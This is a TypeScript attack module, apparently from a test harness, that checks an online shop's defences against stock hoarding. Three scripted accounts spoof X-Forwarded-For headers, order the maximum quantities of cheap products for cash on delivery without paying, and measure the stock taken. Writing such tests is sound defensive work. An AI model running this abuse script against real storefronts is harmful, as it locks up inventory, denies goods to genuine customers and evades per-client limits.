import { MongoClient } from "mongodb";
import type { Attack, Target } from "../attack";

const accounts = 3;
const password = "hoarded without paying";
const destination = { address: "12 Silver Oak Residency", city: "Bengaluru", phone: "9845011223", pincode: "560038" };

/** An account of the attacker: registers, signs in, and returns a function that makes its calls. */
async function newAccount({ url }: Target, number: number) {
  const address = { "x-forwarded-for": `203.0.113.${number + 10}`, "content-type": "application/json" };
  const email = `attacker-${number}@shopper.example`;
  const post = (path: string, body: object, cookie = "") =>
    fetch(url + path, { method: "POST", headers: { ...address, cookie }, body: JSON.stringify(body) });
  await post("/api/auth/register", { username: `Attacker ${number}`, email, password });
  const signedIn = await post("/api/auth/login", { email, password });
  const cookie = signedIn.headers.get("set-cookie")?.split(";")[0] ?? "";
  return (path: string, body: object) => post(path, body, cookie);
}

/** Pieces that are still available. */
async function piecesLeft({ mongodbUri }: Target): Promise<number> {
  const client = await MongoClient.connect(mongodbUri);
  try {
    const products = client.db().collection("products");
    const [sum] = await products.aggregate([{ $group: { _id: null, stock: { $sum: "$stock" } } }]).toArray();
    return sum?.stock ?? 0;
  } finally {
    await client.close();
  }
}

type Offered = { _id: string; stock: number; stockBySize: Record<string, number> | null };

/** As many pieces as a line may have, of the size with the most. */
function maxLineOf({ _id, stock, stockBySize }: Offered) {
  const [fullest] = Object.entries(stockBySize ?? {}).sort(([, a], [, b]) => b - a);
  const [size, left] = fullest ?? [undefined, stock];
  return { productId: _id, size, quantity: Math.max(1, Math.min(left, 10)) };
}

export const hoarding: Attack = {
  name: "hoarding",
  does: `${accounts} new accounts order all they can for cash and hold what is left, without paying`,
  run: async (target) => {
    const before = await piecesLeft(target);
    const list = await fetch(`${target.url}/api/shop/products/get?limit=100&sortBy=price_lowtohigh`);
    const { data } = (await list.json()) as { data: Offered[] };
    const statuses = new Map<number, number>();
    const attack = async (number: number) => {
      const call = await newAccount(target, number);
      for (let round = 0; round < 8; round++) {
        for (const product of data.slice(round * 4, round * 4 + 4)) {
          await call("/api/shop/cart/add", maxLineOf(product));
        }
        for (const way of ["createCOD", "create"]) {
          const { status } = await call(`/api/shop/order/${way}`, { addressInfo: destination });
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
        }
      }
    };
    await Promise.all(Array.from({ length: accounts }, (_, number) => attack(number)));
    const taken = before - (await piecesLeft(target));
    const answers = [...statuses].map(([status, count]) => `${status} ${count} times`).join(", ");
    const seen = `${taken} of ${before.toLocaleString("en-IN")} pieces taken; orders answered ${answers}`;
    return { held: taken > 0 && taken <= accounts * 50, seen };
  },
};
